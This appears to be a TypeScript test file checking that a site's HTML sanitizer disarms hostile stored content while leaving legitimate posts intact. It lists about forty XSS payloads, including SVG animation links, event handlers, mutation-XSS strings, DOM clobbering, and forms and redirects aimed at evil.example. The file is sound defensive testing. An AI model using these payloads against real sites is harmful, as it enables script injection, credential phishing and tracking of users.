// Hostile rows (written with the admin key, bypassing the sync's sanitizer)
// must render inert; the site's own content must render unchanged.
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { loadContent } from "../../../scripts/lib/content";
import { renderMarkdown } from "../../../scripts/lib/render";
import { sanitizeHtml } from "./sanitizeHtml";

const REMOTE = "https://tracker.example/pixel.png";

/** [what it tries, the stored HTML]. */
const PAYLOADS: Array<[string, string]> = [
  // The three that got through the hand-written rules.
  ["SVG <set> turning a link into javascript:", '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">click</text></a></svg>'],
  ["SVG <animate> turning a link into javascript:", '<svg><a href="#"><animate attributeName="href" values="javascript:alert(1)"/><text>click</text></a></svg>'],
  ["SVG xlink:href animation", '<svg><a xlink:href="#"><set attributeName="xlink:href" to="javascript:alert(1)"/><circle r="400"/></a></svg>'],
  ["style attribute overlay", '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Log in again</div>'],
  ["remote image", `<img src="${REMOTE}" alt="x">`],
  ["protocol-relative image", '<img src="//tracker.example/p.png">'],
  ["backslash image", '<img src="/\\tracker.example/p.png">'],
  ["remote srcset", `<img src="/images/a.svg" srcset="${REMOTE} 2x">`],
  ["remote picture source", `<picture><source srcset="${REMOTE}"><img src="/images/a.svg"></picture>`],
  ["remote video poster", `<video poster="${REMOTE}" src="${REMOTE}"></video>`],
  ["remote audio", `<audio src="${REMOTE}" autoplay></audio>`],
  ["table background", `<table background="${REMOTE}"><tr><td>x</td></tr></table>`],
  ["input image", `<input type="image" src="${REMOTE}">`],
  ["data: image", '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
  // Classic XSS.
  ["onerror", '<img src="x" onerror="alert(1)">'],
  ["script", "<script>alert(1)</script>"],
  ["iframe srcdoc", '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>'],
  ["object", '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">'],
  ["base", '<base href="https://evil.example/">'],
  ["meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ["link stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ["style element", "<style>body{display:none}@import url(https://evil.example/x.css);</style>"],
  ["javascript: link", '<a href="javascript:alert(1)">a</a>'],
  ["obfuscated javascript: link", '<a href=" JaVa&#x09;Script&colon;alert(1)">a</a><a href="&#106;avascript:alert(1)">b</a>'],
  ["vbscript and data links", '<a href="vbscript:msgbox(1)">a</a><a href="data:text/html,<script>alert(1)</script>">b</a>'],
  ["form posing as the site", '<form action="https://evil.example"><input name="password"><button formaction="https://evil.example">Go</button></form>'],
  ["popover overlay", '<div popover="manual" id="p">x</div><a popovertarget="p">open</a>'],
  ["dialog overlay", "<dialog open>Your session expired</dialog>"],
  ["site class overlay", '<div class="skeleton site-header">x</div>'],
  ["template", "<template><img src=x onerror=alert(1)></template>"],
  ["DOM clobbering", '<img name="getElementById"><form name="cookie"></form><a id="location">x</a>'],
  // Mutation XSS: markup that a second parse (innerHTML) turns into something else.
  ["mXSS: svg </p> style", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ["mXSS: math mglyph style", '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">'],
  ["mXSS: nested forms", '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
  ["mXSS: noscript title", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ["mXSS: xmp title", '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'],
  ["mXSS: svg style", "<svg><style><img src=x onerror=alert(1)></style></svg>"],
  ["mXSS: math style", "<math><style><img src=x onerror=alert(1)></style></math>"],
  ["mXSS: select template", "<select><template><style><!--</style><img src=x onerror=alert(1)>--></style></template></select>"],
  ["mXSS: comment", '<!--><img src=x onerror=alert(1)>--><p title="--><img src=x onerror=alert(1)>">'],
  ["mXSS: textarea", '<textarea></textarea><img src=x onerror=alert(1)>">'],
  ["mXSS: table foster parenting", "<table><a href=javascript:alert(1)><tr><td>x</td></tr></table>"],
];

const FORBIDDEN_ELEMENTS = "script, style, template, iframe, frame, object, embed, base, link, meta, form, button, dialog, svg, math, set, animate";
const SAFE_LINK = new Set(["http:", "https:", "mailto:"]);

/** Everything in `root` that could run, fetch from another host, or cover the page. */
function problems(root: HTMLElement): string[] {
  const found: string[] = [];
  for (const el of root.querySelectorAll(FORBIDDEN_ELEMENTS)) found.push(`<${el.tagName.toLowerCase()}>`);
  for (const el of root.querySelectorAll("*")) {
    for (const { name, value } of Array.from(el.attributes)) {
      const bad =
        name.startsWith("on") ||
        ["style", "srcset", "background", "action", "formaction", "popover", "popovertarget", "xlink:href"].includes(name) ||
        ((name === "src" || name === "poster") && new URL(value, location.href).origin !== location.origin) ||
        (name === "href" && !SAFE_LINK.has(new URL(value, location.href).protocol)) ||
        (name === "class" && /skeleton|site-header/.test(value)) ||
        ((name === "id" || name === "name") && value in document);
      if (bad) found.push(`${el.tagName.toLowerCase()}[${name}=${value}]`);
    }
    if (el.tagName === "INPUT" && ((el as HTMLInputElement).type !== "checkbox" || !(el as HTMLInputElement).disabled)) {
      found.push(`input[type=${(el as HTMLInputElement).type}]`);
    }
  }
  return found;
}

/** The output as React puts it in the page: parsed again by innerHTML. */
function mount(html: string): HTMLElement {
  const root = document.createElement("div");
  root.innerHTML = html;
  document.body.append(root);
  return root;
}

describe("hostile rows render inert", () => {
  beforeEach(() => vi.stubGlobal("alert", vi.fn()));
  afterEach(() => {
    vi.unstubAllGlobals();
    document.body.replaceChildren();
  });

  it.each(PAYLOADS)("%s", (_name, payload) => {
    const safe = sanitizeHtml(payload);
    const root = mount(safe);
    expect(problems(root)).toEqual([]);
    // Stable: parsing it again changes nothing (no mutation), sanitizing it again neither.
    expect(root.innerHTML).toBe(safe);
    expect(sanitizeHtml(safe)).toBe(safe);
    // jsdom runs inline handlers: none may be left to run.
    for (const el of root.querySelectorAll("*")) {
      for (const type of ["click", "error", "load", "focus", "mouseover"]) el.dispatchEvent(new Event(type));
    }
    expect(window.alert).not.toHaveBeenCalled();
  });

  it("keeps the visible text of what it disarms", () => {
    const root = mount(sanitizeHtml(PAYLOADS[3]![1] + `<img src="${REMOTE}" alt="a chart">`));
    expect(root.textContent).toBe("Log in again");
    expect(root.querySelector("img")?.getAttribute("alt")).toBe("a chart");
    expect(root.querySelector("img")?.hasAttribute("src")).toBe(false);
  });
});

/** The HTML as parsed, with the attributes the sanitizer adds to images removed. */
function normalized(html: string): string {
  const template = document.createElement("template");
  template.innerHTML = html;
  for (const img of template.content.querySelectorAll("img")) {
    img.removeAttribute("loading");
    img.removeAttribute("decoding");
  }
  return template.innerHTML;
}

describe("the site's own content renders unchanged", () => {
  it("every post and page in content/", async () => {
    const { posts, pages, problems: found } = await loadContent(path.resolve(__dirname, "../../../content"));
    expect(found).toEqual([]);
    expect(posts.length + pages.length).toBeGreaterThan(0);
    for (const doc of [...posts, ...pages]) expect(normalized(sanitizeHtml(doc.html)), doc.slug).toBe(normalized(doc.html));
  });

  it("headings with ids, highlighted code, tables, task lists, footnotes, local images, details", () => {
    const html = renderMarkdown(
      [
        "## A heading",
        "",
        "```ts",
        "const x: number = 1; // note",
        "```",
        "",
        "| a | b |",
        "|:--|--:|",
        "| 1 | 2 |",
        "",
        "- [x] done",
        "- [ ] to do",
        "",
        "Text with a note.[^1] And `code`, **bold**, _em_, ~~gone~~, <kbd>Ctrl</kbd>, <abbr title=\"HyperText\">HTML</abbr>.",
        "",
        "![A chart](/images/stats-pipeline.svg)",
        "",
        "Inline ![icon](/favicon.svg) image and a [link](https://convex.dev) and [a section](#a-heading).",
        "",
        "<details><summary>More</summary>Hidden text</details>",
        "",
        "[^1]: The note.",
      ].join("\n"),
    );
    for (const part of ['id="a-heading"', "hljs-keyword", 'align="right"', 'type="checkbox"', "data-footnote-ref", "<figure>", "<details>"]) {
      expect(html, part).toContain(part);
    }
    expect(normalized(sanitizeHtml(html))).toBe(normalized(html));
  });
});
